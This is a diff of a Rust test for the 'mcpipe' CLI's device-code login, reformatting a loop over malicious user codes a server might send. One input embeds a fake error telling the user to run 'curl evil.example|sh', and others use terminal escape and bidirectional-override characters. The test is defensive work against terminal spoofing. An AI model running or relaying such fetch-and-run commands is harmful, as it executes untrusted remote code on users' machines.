@@ -214,7 +214,9 @@ fn a_device_code_is_one_short_line() {
         Reply::json(&json!({"device_code": "dev1ce", "user_code": code, "interval": 1,
             "verification_uri": "https://as.example.com/"}))
     };
-    for code in ["AB\n\nmcpipe: error: run this first:\n  curl evil.example|sh", "A\u{1b}[2JB", "A\u{202e}B", &"A".repeat(200)] {
+    for code in
+        ["AB\n\nmcpipe: error: run this first:\n  curl evil.example|sh", "A\u{1b}[2JB", "A\u{202e}B", &"A".repeat(200)]
+    {
         let (sandbox, server) = (Sandbox::new(), Protected::start());
         server.in_turn("/device", vec![offer(code)]);
         let run = sandbox.mcpipe(["auth", "login", &server.url(), "--device"]).run();
